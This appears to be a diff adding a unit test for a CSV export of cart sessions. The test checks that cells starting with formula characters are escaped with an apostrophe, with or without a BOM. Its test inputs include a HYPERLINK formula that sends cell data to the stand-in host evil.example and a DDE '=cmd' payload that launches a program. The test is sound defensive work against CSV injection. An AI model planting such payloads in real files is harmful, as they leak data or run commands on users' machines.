@@ -23,6 +23,42 @@ describe('CSV export', () => {
     expect(parse(csv, { columns: true })).toEqual(sessionRecords(odd, fields, NOW));
     expect(sessionsCsv(odd, fields, NOW, { bom: true }).startsWith('\uFEFFcart_key,')).toBe(true);
   });
+  it('neutralises cells a spreadsheet would run as a formula, with or without a BOM', () => {
+    const names = [
+      '=HYPERLINK("https://evil.example/?"&A2,"x")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\tTab',
+      '\rCR',
+      '\uFF1D1+1',
+      '\uFF0B1',
+      '\uFF0D1',
+      '\uFF20SUM(1)',
+      "O'Brien = 1",
+    ];
+    const sessions = names.map((name, i) => ({
+      ...(seed[0] as SessionSummary),
+      cart_key: `k${i}`,
+      customers_name: name,
+      customers_email: i === 0 ? '=cmd|" /C calc"!A0@x.example' : 'a@b.example',
+    }));
+    const fields = parseFields('cart_key,customers_name,customers_email');
+    for (const bom of [false, true]) {
+      const csv = sessionsCsv(sessions, fields, NOW, { bom });
+      const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
+      expect(lines.slice(1, 3)).toEqual([
+        `k0,"'=HYPERLINK(""https://evil.example/?""&A2,""x"")","'=cmd|"" /C calc""!A0@x.example"`,
+        `k1,'+1+1,a@b.example`,
+      ]);
+      const cells = (parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>).map(
+        (r) => r.customers_name,
+      );
+      expect(cells).toEqual([...names.slice(0, -1).map((n) => `'${n}`), "O'Brien = 1"]);
+    }
+    // JSON and ndjson take the records as they are.
+    expect(sessionRecords(sessions, fields, NOW).map((r) => r.customers_name)).toEqual(names);
+  });
   it('refuses an unknown field', () => {
     expect(() => parseFields('cart_key,nope')).toThrow('unknown field "nope"');
     expect(() => parseFields('cart_key,,link')).toThrow('--fields');
